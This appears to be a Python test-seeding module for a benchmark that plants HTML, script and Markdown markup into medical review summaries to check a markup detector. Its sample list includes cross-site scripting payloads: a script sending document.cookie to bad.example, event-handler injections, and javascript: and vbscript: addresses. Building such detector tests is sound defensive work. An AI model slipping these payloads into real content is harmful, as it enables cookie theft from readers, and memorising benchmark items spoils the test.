"""Seeded markup: HTML, script, script addresses and Markdown links put into real summaries.

Families:

- ``markup``: a piece of markup (templates below, written for this project) put into a human
  summary or an offline draft; the markup check must report it;
- ``markup-lookalike``: plain-text notation that only looks like markup (less-than signs in
  figures, ampersands in names, bracketed chemistry); the markup check must stay silent.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from pathlib import Path

from bench.evalset import Seed
from bench.seeds._hosts import hosts, insert, section_of

PER_FAMILY = 160

# Whole sentences or inline pieces, each with what it is (for reading failures by hand).
MARKUP = (
    ("<b>This finding is important.</b>", "bold tags"),
    ("<strong>Talk to your care team.</strong>", "strong tags"),
    ("<script>document.location='https://bad.example/'+document.cookie</script>", "script"),
    ("<img src=\"x.png\" onerror=\"alert('hi')\">", "image with handler"),
    ("<a href=\"javascript:alert(1)\">Read more</a>", "script link"),
    ("<a href=\"https://trials.example.org/study\">See the study</a>", "plain link tag"),
    ("[Read the full review](https://reviews.example.org/cd0001)", "Markdown link"),
    ("![Chart of results](https://img.example.org/chart.png)", "Markdown image"),
    ("<!-- reviewer: check this later -->", "HTML comment"),
    ("<div style=\"display:none\">hidden text for search engines</div>", "hidden div"),
    ("<iframe src=\"https://ads.example.net/frame\"></iframe>", "iframe"),
    ("Click <u>here</u> for details.", "underline inline"),
    ("More at [the trial page][1].", "Markdown reference link"),
    ("<p>The results were mixed.</p>", "paragraph tags"),
    ("<span onclick=\"steal()\">Details</span>", "span with handler"),
    ("Download the leaflet: data:text/html;base64,PGgxPmhpPC9oMT4=", "data address"),
    ("Pain scores fell &mdash; but only a little.", "character reference"),
    ("People aged 65 &amp; over took part.", "ampersand reference"),
    ("<br>", "line break tag"),
    ("<svg onload=\"alert(1)\"></svg>", "svg with handler"),
    ("<em>Most</em> people felt better.", "emphasis tags"),
    ("See vbscript:msgbox(1) for the form.", "vbscript address"),
)

LOOKALIKES = (
    "Blood pressure fell to <140 mmHg in most people.",
    "Fewer than 1 in 5 (<20%) had side effects.",
    "The difference was small (p<0.05 in one study only).",
    "Johnson & Johnson paid for two of the studies.",
    "People went to A&E less often.",
    "Calcium levels ([Ca2+]) did not change.",
    "Scores ranged from 0 to 10 (higher = worse pain).",
    "Doses of >2 g a day were not tested.",
    "The team used a score called R&D-5 in one study.",
    "Children (aged 5 to <12 years) took part.",
    "The ratio of cases to controls was 1:2.",
    "Results were similar for men and women (see [1] in the review).",
)


def _seeds(family: str, pieces: list[str], expect: str, data_dir: Path,
           rng: random.Random) -> Iterator[Seed]:
    source = hosts(data_dir, rng)
    for i in range(PER_FAMILY):
        host = next(source)
        section = section_of(host, rng)
        piece = pieces[i % len(pieces)]
        inline = expect == "finding" and not piece[:1].isupper() and not piece.startswith("<")
        text, start, end = insert(host, section, piece, rng, inline=inline)
        yield Seed(family=family, check="markup", expect=expect,  # type: ignore[arg-type]
                   text_id=host.text_id, abstract=host.abstract, summary=text.summary,
                   section=section, start=start, end=end)


def seeds(data_dir: Path, rng: random.Random) -> Iterator[Seed]:
    yield from _seeds("markup", [m for m, _ in MARKUP], "finding", data_dir, rng)
    yield from _seeds("markup-lookalike", list(LOOKALIKES), "silence", data_dir, rng)
